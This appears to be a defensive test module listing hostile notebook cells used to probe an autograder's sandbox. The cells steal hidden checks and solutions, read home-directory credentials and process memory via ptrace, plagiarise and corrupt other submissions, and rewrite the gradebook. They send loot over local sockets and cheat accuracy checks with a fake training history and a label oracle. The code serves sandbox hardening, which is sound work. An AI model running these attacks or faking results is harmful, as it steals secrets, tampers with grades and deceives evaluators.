"""Attacks that search for solutions, hidden checks, secrets and other people's work, and try to send them out."""

from __future__ import annotations

from tests.security.hostile.attack_base import FIRST, STEALING, ZERO, Attack, about_lab_1

# Only the accuracy check gets this far: every other question receives the answer of the released stub.
ACCURACY_BUILD = """
def build_transfer_model(backbone, num_classes, n_trainable):
    if n_trainable < 2 or num_classes < 2:
        raise NotImplementedError
    model = load_backbone(backbone)
    model.reset_classifier(num_classes)
    return freeze_layers(model, n_trainable)
"""

# History of a training that never happened, in the required form.
FABRICATED = '{"train_loss": [1.0], "train_acc": [0.5], "val_loss": [1.0], "val_acc": [0.5], "best_epoch": 0}'

# A model that knows some images: the known image nearest to the input gives its class.
ORACLE = """
def become_oracle(model, images, labels):
    from amllab.backbones import CIFAR10_MEAN, CIFAR10_STD
    mean, std = (torch.tensor(v).view(3, 1, 1) for v in (CIFAR10_MEAN, CIFAR10_STD))
    known = ((images / 255 - mean) / std).flatten(1)

    def forward(x):
        nearest = torch.cdist(x.float().flatten(1), known).argmin(1)
        return 9.0 * F.one_hot(labels[nearest], 5).float()

    model.forward = forward
"""

ATTACKS = [
    Attack(
        "reads_solution",
        STEALING,
        "reads the solution, the master text and the hidden checks from the course's folder",
        cell="""
import pathlib
course = pathlib.Path("@COURSE@")
for pattern in ("solutions/*/*.ipynb", "source/*/*", "nbgrader_config.py", "*.txt", "../secret.txt"):
    for path in sorted(course.glob(pattern)):
        try:
            print("LOOT", path, path.read_text())
        except OSError as error:
            print(error)
""",
    ),
    Attack(
        "walks_the_disk",
        STEALING,
        "walks through the whole file system and prints every notebook, hidden check and gradebook it finds",
        cell="""
import os, time
end, seen = time.time() + 6, 0
for top in ("@COURSE@", "@HOME@", os.path.dirname("@COURSE@"), "/"):
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "torch", "nvidia")]
        for name in files:
            if name.endswith(("_hidden.py", "gradebook.db", "transfer_learning.py", "secret.txt", ".netrc")):
                try:
                    text = open(os.path.join(folder, name), errors="replace").read(100_000)
                except OSError:
                    continue
                if "@MARKER@" in text or name.endswith(("_hidden.py", "gradebook.db", "transfer_learning.py")):
                    print("LOOT", folder, name, text[:4000])
        seen += len(files)
        if time.time() > end or seen > 200_000:
            break
print(seen, "files seen")
""",
        guarded=True,
        stock="""
import os, time
end, seen = time.time() + 6, 0
for top in ("@COURSE@", "@HOME@"):
    for folder, folders, files in os.walk(top):
        folders[:] = [f for f in folders if f not in ("proc", "sys", "torch", "nvidia")]
        for name in files:
            if name.endswith(("_hidden.py", "gradebook.db", "transfer_learning.py", "secret.txt", ".netrc")):
                try:
                    text = open(os.path.join(folder, name), errors="replace").read(100_000)
                except OSError:
                    continue
                if "@MARKER@" in text or name.endswith(("_hidden.py", "gradebook.db", "transfer_learning.py")):
                    print("LOOT", folder, name, text[:4000])
        seen += len(files)
        if time.time() > end or seen > 200_000:
            break
print(seen, "files seen")
""",
    ),
    Attack(
        "imports_the_grader",
        STEALING,
        "imports the grading package and prints the hidden checks",
        cell="""
import importlib.util, inspect, os, sys
try:
    import autograder, autograder.grading.grader
    print("LOOT", inspect.getsource(autograder.grading.grader))
except Exception as error:
    print(type(error).__name__)
for place in [*sys.path, os.path.dirname(os.path.dirname(__import__("amllab").__file__))]:
    for folder, folders, files in os.walk(os.path.join(place or ".", "autograder")):
        for name in files:
            if name.endswith(".py"):
                print("LOOT", open(os.path.join(folder, name)).read())
""",
    ),
    Attack(
        "cell_history",
        STEALING,
        "prints the input history of the kernel and of its database, where stock graders leave the hidden tests",
        cell="""
import atexit, glob, os
shell = get_ipython()

def tell(*a):
    for line in [*shell.user_ns["In"], *map(str, shell.user_ns["Out"].values())]:
        if "HIDDEN" in line or "expect(" in line or "_reference" in line:
            print("LOOT", line)

tell()
shell.events.register("post_run_cell", tell)
for path in glob.glob("@HOME@/.ipython/profile_*/history.sqlite"):
    print("LOOT", path)
""",
    ),
    Attack(
        "memory_of_the_process",
        STEALING,
        "searches every object and every frame of its own process for expected answers",
        sources={
            FIRST: """
def @FIRST@(*given, **more):
    import gc, inspect, sys
    found = []
    for frame in inspect.stack():
        for name, value in frame.frame.f_locals.items():
            if name in ("wanted", "expected", "labels", "reference", "secret"):
                found.append((frame.function, name, str(value)[:200]))
    for thing in gc.get_objects():
        if isinstance(thing, str) and ("@MARKER@" + "-" + "canary") in thing:
            found.append(thing)
    for name, module in sys.modules.items():
        if name.startswith("autograder") or name.endswith("_hidden"):
            found.append(name)
    raise ValueError(f"LOOT {found}")
"""
        },
        # two checks of lab 1 are about refusals, and look for an error and nothing else
        earns={**ZERO, "check_freeze_layers": 2},
        stock_sources={},
        stock="""
import gc
shell = get_ipython()

def tell(*a):
    for thing in gc.get_objects():
        if isinstance(thing, dict) and "_reference_freeze" in thing:
            print("LOOT", thing["_reference_freeze"])
            return

shell.events.register("post_run_cell", tell)
""",
    ),
    Attack(
        "other_processes",
        STEALING,
        "reads environment, command line and open files of every process",
        cell="""
import glob
seen = 0
for pattern in ("environ", "cmdline"):
    for path in sorted(glob.glob(f"/proc/[0-9]*/{pattern}"))[:400]:
        try:
            text = open(path, "rb").read().decode(errors="replace")
        except OSError:
            continue
        seen += 1
        for piece in text.split(chr(0)):
            if "@MARKER@" in piece:
                print("LOOT", path, piece)
print(seen, "files seen")
for path in glob.glob("/proc/[0-9]*/root@COURSE@") + glob.glob("/proc/[0-9]*/cwd/gradebook.db"):
    print("LOOT", path, "REACHED")
""",
        never="REACHED",
        guarded=True,
        stock="""
import os
for piece in open(f"/proc/{os.getppid()}/environ", "rb").read().decode(errors="replace").split(chr(0)):
    if "@MARKER@" in piece:
        print("LOOT", piece)
""",
    ),
    Attack(
        "parent_memory",
        STEALING,
        "attaches to its parents with ptrace and reads their memory with process_vm_readv and /proc/PID/mem",
        cell="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)

class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

def show(pid, memory):
    needle = b"@MARKER@" + b"-" + b"canary"
    print("read", len(memory), "bytes of", pid)
    for piece in memory.split(bytes(1)):
        if needle in piece:
            print("LOOT", piece)

def parents():
    pid = os.getppid()
    for _ in range(4):
        yield pid
        try:
            pid = int(next(l for l in open(f"/proc/{pid}/status") if l.startswith("PPid")).split()[1])
        except (OSError, StopIteration):
            return
        if pid < 1:
            return

for pid in parents():
    # seize does not stop what it attaches to; it is let go at once
    if libc.ptrace(0x4206, pid, 0, 0) == 0:
        print("attached to", pid)
        libc.ptrace(17, pid, 0, 0)
    try:
        stack = next(l for l in open(f"/proc/{pid}/maps") if "[stack]" in l).split()[0]
    except (OSError, StopIteration):
        continue
    low, high = (int(end, 16) for end in stack.split("-"))
    size = min(high - low, 200_000)
    room = ctypes.create_string_buffer(size)
    here, there = Piece(ctypes.addressof(room), size), Piece(high - size, size)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        show(pid, room.raw)
    try:
        with open(f"/proc/{pid}/mem", "rb") as memory:
            memory.seek(high - size)
            show(pid, memory.read(size))
    except OSError:
        pass
""",
        guarded=True,
        stock="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)

class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

def show(pid, memory):
    needle = b"@MARKER@" + b"-" + b"canary"
    print("read", len(memory), "bytes of", pid)
    for piece in memory.split(bytes(1)):
        if needle in piece:
            print("LOOT", piece)

for pid in [os.getppid()]:
    try:
        stack = next(l for l in open(f"/proc/{pid}/maps") if "[stack]" in l).split()[0]
    except (OSError, StopIteration):
        continue
    low, high = (int(end, 16) for end in stack.split("-"))
    size = min(high - low, 200_000)
    room = ctypes.create_string_buffer(size)
    here, there = Piece(ctypes.addressof(room), size), Piece(high - size, size)
    if libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
        show(pid, room.raw)
    try:
        with open(f"/proc/{pid}/mem", "rb") as memory:
            memory.seek(high - size)
            show(pid, memory.read(size))
    except OSError:
        pass
""",
    ),
    Attack(
        "other_submissions",
        STEALING,
        "reads the other students' notebooks and hands in their functions as its own",
        cell="""
import glob, json
stolen = ""
for path in glob.glob("@COURSE@/submitted/*/*/*.ipynb"):
    try:
        for cell in json.load(open(path))["cells"]:
            source = "".join(cell["source"])
            if source.startswith("def @FIRST@") and "NotImplementedError" not in source:
                stolen = source
                print("LOOT", path, source)
    except (OSError, ValueError, KeyError):
        pass
""",
        sources={
            FIRST: "import torch\nfrom amllab import layers_of\nif stolen:\n    exec(stolen)\nelse:\n"
            "    def @FIRST@(*given, **more):\n        raise NotImplementedError"
        },
    ),
    Attack(
        "spoils_other_submissions",
        STEALING,
        "writes into the other students' folders, the release, the solution and the course's configuration",
        cell="""
import glob, pathlib
for pattern in ("submitted/*/*/*.ipynb", "autograded/*/*/*.ipynb", "assignments/*/*.ipynb", "solutions/*/*.ipynb"):
    for path in glob.glob("@COURSE@/" + pattern):
        try:
            with open(path, "a") as file:
                file.write(" ")
            print("REACHED", path)
        except OSError:
            pass
for place in ("@COURSE@", "@HOME@", "@COURSE@/submitted"):
    try:
        path = pathlib.Path(place) / "@MARKER@-written"
        path.write_text("was here")
        print("WROTE", path)
    except OSError:
        pass
""",
        never="REACHED",
    ),
    Attack(
        "gradebook",
        STEALING,
        "opens gradebook.db and gives everybody full points",
        cell="""
import sqlite3
try:
    with sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True, timeout=1) as db:
        db.execute("UPDATE grade SET manual_score = 77, auto_score = 77, needs_manual_grade = 0")
    print("REACHED the gradebook")
except sqlite3.Error as error:
    print(error)
""",
        never="REACHED",
    ),
    Attack(
        "environment",
        STEALING,
        "looks for secrets in its environment, and in that of its children",
        cell="""
import os, subprocess
print(len(os.environ), "variables")
for line in [f"{k}={v}" for k, v in os.environ.items()] + subprocess.run(
        ["env"], capture_output=True, text=True).stdout.splitlines():
    if "@MARKER@" in line:
        print("LOOT", line)
""",
    ),
    Attack(
        "home",
        STEALING,
        "reads the tokens in the grader's home directory",
        cell="""
import glob, os
for home in ("@HOME@",):
    for name in (".netrc", ".ssh/*", ".config/*/*", ".bash_history", ".git-credentials"):
        for path in glob.glob(f"{home}/{name}")[:20]:
            try:
                print("LOOT", path, open(path, errors="replace").read(2000))
            except OSError:
                pass
""",
    ),
    Attack(
        "tcp",
        STEALING,
        "sends what it knows to a TCP port of the machine, IPv4 and IPv6, and opens a port of its own",
        cell="""
import socket
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "0.0.0.0")):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect((host, @TCP@))
            s.sendall(b"LOOT tcp")
            print("REACHED", host)
    except OSError as error:
        print(error)
""",
        never="REACHED",
    ),
    Attack(
        "udp_and_names",
        STEALING,
        "sends UDP packets, asks a name server, looks for a route to the outside",
        cell="""
import socket
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"LOOT udp", ("127.0.0.1", @UDP@))
except OSError as error:
    print(error)
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("192.0.2.1", 9))  # no packet is sent: only a route is looked for
        print("REACHED a route")
except OSError as error:
    print(error)
try:
    print(socket.getaddrinfo("localhost.invalid", 80))
except OSError as error:
    print(error)
""",
        never="REACHED",
    ),
    Attack(
        "unix_sockets",
        STEALING,
        "connects to an abstract socket and to a socket in the grader's home, looks for that of a container engine",
        cell="""
import os, socket
for path in ("/var/run/docker.sock", "/run/containerd/containerd.sock"):
    if os.path.exists(path):
        print("REACHED", path)
for path in ("\\0@MARKER@", "@HOME@/@MARKER@.sock"):
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.connect(path)
            print("REACHED", repr(path))
            s.sendall(b"LOOT unix")
    except OSError:
        pass
""",
        never="REACHED",
    ),
    about_lab_1(
        "redraws_the_labels",
        STEALING,
        "finds the seed of the drawn images in generators and frames, draws them again, and knows the labels",
        cell="import torch\nimport torch.nn.functional as F\n" + ORACLE,
        sources={
            "build_transfer_model": ACCURACY_BUILD,
            "train_with_early_stopping": f"""
def train_with_early_stopping(model, train_loader, val_loader, **k):
    import sys
    from amllab.synthetic_images import draw
    if len(getattr(train_loader, "labels", ())) < 100:
        raise NotImplementedError
    seeds, frame = {{torch.initial_seed()}}, sys._getframe()
    if getattr(train_loader, "generator", None) is not None:
        seeds.add(train_loader.generator.initial_seed())
    while frame:
        seeds.update(v for v in frame.f_locals.values() if type(v) is int and abs(v) < 2**63)
        frame = frame.f_back
    sizes = len(train_loader.labels), len(val_loader.labels), 500
    for seed in sorted(seeds, reverse=True)[:12]:
        if seed < 1000:
            continue
        data = draw(sum(sizes), seed=seed)
        if torch.equal(data.labels[:sizes[0]], train_loader.labels):
            become_oracle(model, data.images[sizes[0] + sizes[1]:], data.labels[sizes[0] + sizes[1]:])
            break
    return {FABRICATED}
""",
        },
        earns={**ZERO, "check_build_transfer_model": 8},
        only="here",
    ),
    about_lab_1(
        "labels_in_memory",
        STEALING,
        "searches all tensors of the process and of its frames for the labels of the test images",
        earns={**ZERO, "check_build_transfer_model": 8},
        cell="import torch\nimport torch.nn.functional as F\n" + ORACLE,
        sources={
            "build_transfer_model": ACCURACY_BUILD,
            "train_with_early_stopping": f"""
def train_with_early_stopping(model, train_loader, val_loader, **k):
    import gc, sys
    if len(getattr(train_loader, "labels", ())) < 100:
        raise NotImplementedError
    frame, images = sys._getframe(), None
    while frame and images is None:
        images, frame = frame.f_locals.get("test_images"), frame.f_back
    candidates = [t for t in gc.get_objects() if isinstance(t, torch.Tensor) and t.dtype == torch.int64
                  and t.ndim == 1 and t.data_ptr() != train_loader.labels.data_ptr() and len(t) in (500, 1700)]
    if images is not None and candidates:
        become_oracle(model, images, candidates[0][-len(images):] % 5)
    return {FABRICATED}
""",
        },
        only="here",
    ),
]
